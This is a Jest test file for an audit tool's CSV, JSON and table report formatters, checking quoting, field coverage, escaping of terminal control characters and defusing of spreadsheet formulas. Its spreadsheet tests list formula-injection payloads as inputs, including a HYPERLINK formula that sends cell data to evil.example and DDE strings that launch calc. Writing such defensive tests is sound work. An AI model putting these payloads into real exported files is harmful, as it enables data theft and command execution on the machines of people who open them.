// CSV: RFC 4180, a column for each field, and nothing in it that a spreadsheet would calculate.
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { CSV_COLUMNS, csvHeader, csvRecord, toCsv } from '../../sidecar/report/format-csv.ts';
import {
  createGroupCsv,
  createGroupJson,
  createGroupTable,
} from '../../sidecar/report/format-groups.ts';
import { fieldsOf, toJson } from '../../sidecar/report/format-json.ts';
import type { ReadRow } from '../../sidecar/audit/reader.ts';
import type { RequestRow } from '../../sidecar/audit/row.ts';
import { CHAIN } from '../fixtures/databases.ts';
import { aFullRow, anEvent, aRow } from '../fixtures/rows.ts';

const PLACE = { sequence: 3, hash: 'ab'.repeat(32), chain: CHAIN };
const read = (overrides: Partial<RequestRow> = {}): ReadRow => ({ ...aRow(overrides), ...PLACE });
const full = (): ReadRow => ({ ...aFullRow(), ...PLACE });
const event = (): ReadRow => ({ ...anEvent({ details: { attempts: 2 } }), ...PLACE });

/** Reads one record as RFC 4180 says. */
function cellsOf(record: string): string[] {
  const cells = [...`,${record}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",]*))/g)];
  expect(cells.map(([text]) => text).join('')).toBe(`,${record}`);
  return cells.map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '');
}

function cellOf(row: ReadRow, column: (typeof CSV_COLUMNS)[number]): string | undefined {
  return cellsOf(toCsv(row))[CSV_COLUMNS.indexOf(column)];
}

describe('a record', () => {
  test('has a cell for each column of the header', () => {
    expect(cellsOf(csvHeader())).toEqual([...CSV_COLUMNS]);
    for (const row of [read(), full(), event()]) {
      expect(cellsOf(toCsv(row))).toHaveLength(CSV_COLUMNS.length);
    }
  });

  test('has every field that a JSON line has, those of objects under both names', () => {
    const nested = ['gate', 'upstream', 'link'];
    const names = [full(), event()].flatMap((row) =>
      Object.entries(fieldsOf(row)).flatMap(([name, value]) =>
        nested.includes(name) && value
          ? Object.keys(value as object).map((within) => `${name}.${within}`)
          : [name],
      ),
    );
    const columns = new Set<string>(CSV_COLUMNS);
    expect(names.filter((name) => !columns.has(name) && !nested.includes(name))).toEqual([]);
    expect([...columns].filter((column) => !names.includes(column))).toEqual([]);
  });

  test('says what the JSON line says; what is unknown is empty', () => {
    expect(cellOf(full(), 'upstream.latencyMs')).toBe('9');
    expect(cellOf(full(), 'gate.number')).toBe('7');
    expect(cellOf(full(), 'skewMs')).toBe('-0.25');
    expect(cellOf(full(), 'roles')).toBe('["engineer","Site Admins"]');
    expect(cellOf(full(), 'sampled')).toBe('true');
    expect(cellOf(event(), 'details')).toBe('{"attempts":2}');
    expect(cellOf(event(), 'path')).toBe('');
    expect(cellOf(read(), 'gate.number')).toBe('');
  });

  test('is quoted where it has to be, and one line whatever stands in it', () => {
    expect(csvRecord(['a,b', 'say "hi"', 'two\r\nlines', 'plain'])).toBe(
      '"a,b","say ""hi""",two\\x0d\\x0alines,plain',
    );
  });

  test('any texts come back from it, but for what is spelled out or defused', () => {
    const plain = fc
      .string({ unit: 'grapheme-ascii' })
      .filter((text) => !/^[=+\-@]|;[=+\-@]/.test(text));
    fc.assert(
      fc.property(fc.array(plain, { minLength: 1 }), (texts) => {
        expect(cellsOf(csvRecord(texts))).toEqual(texts);
      }),
    );
  });
});

describe('a spreadsheet', () => {
  test.each([
    '=HYPERLINK("https://evil.example?x="&A1;"ok")',
    "+cmd|'/C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
  ])('gets %j as text, not as a formula', (text) => {
    expect(cellOf(read({ userAgent: text }), 'userAgent')).toMatch(/^'/);
  });

  test('that parts cells at semicolons gets no formula behind one either', () => {
    const cell = cellOf(read({ path: "/a;=cmd|'/C calc'!A0" }), 'path');
    expect(cell).toBe("/a;'=cmd|'/C calc'!A0");
  });

  test('gets no formula from any text there is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        for (const part of csvRecord([text]).replace(/^"/, '').split(';')) {
          expect(part).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
        }
      }),
    );
  });

  test('gets numbers as numbers, also those below nothing', () => {
    expect(csvRecord([-0.25, 7, true])).toBe('-0.25,7,true');
  });

  test('gets no character that a terminal obeys', () => {
    expect(toCsv(read({ userAgent: '\u001b[31m\u202e' }))).toContain(',\\x1b[31m\\u202e,');
  });
});

describe('groups', () => {
  const group = { requests: 20, errors: 1, denied: 2, p50Us: 1500, p95Us: 2000, p99Us: 250_000 };
  const named = { name: 'payments', ...group };

  test('are JSON lines with the name under what they are grouped by', () => {
    expect(JSON.parse(createGroupJson('team').line(named))).toEqual({
      team: 'payments',
      requests: 20,
      errors: 1,
      denied: 2,
      p50Ms: 1.5,
      p95Ms: 2,
      p99Ms: 250,
    });
  });

  test('without a name have none', () => {
    expect(JSON.parse(createGroupJson('user').line(group))).not.toHaveProperty('user');
    expect(createGroupTable('user').line(group)).toMatch(/^— /);
    expect(createGroupCsv('user').line(group)).toMatch(/^,20,/);
  });

  test('are CSV with the same names', () => {
    const { header, line } = createGroupCsv('team');
    expect(header()).toBe('team,requests,errors,denied,p50Ms,p95Ms,p99Ms');
    expect(line({ ...named, name: '=1' })).toBe("'=1,20,1,2,1.5,2,250");
  });

  test('are a table whose numbers stand under their names, whatever the group’s', () => {
    const { header, line } = createGroupTable('team');
    const text = line({ ...named, name: `${'x'.repeat(99)}\u001b` });
    expect(text).toHaveLength(header()?.length ?? 0);
    expect(text).toMatch(/^x+… +20 +1 +2 +1\.5 +2\.0 +250\.0$/);
  });

  test('have colours only when asked for', () => {
    expect(createGroupTable('team').line(named)).not.toContain('\u001b');
    expect(createGroupTable('team', { colour: true }).line(named)).toContain('\u001b[31m');
  });
});

test('a JSON line and its record name the same row', () => {
  expect(JSON.parse(toJson(read()))).toMatchObject({ hash: cellOf(read(), 'hash') });
});
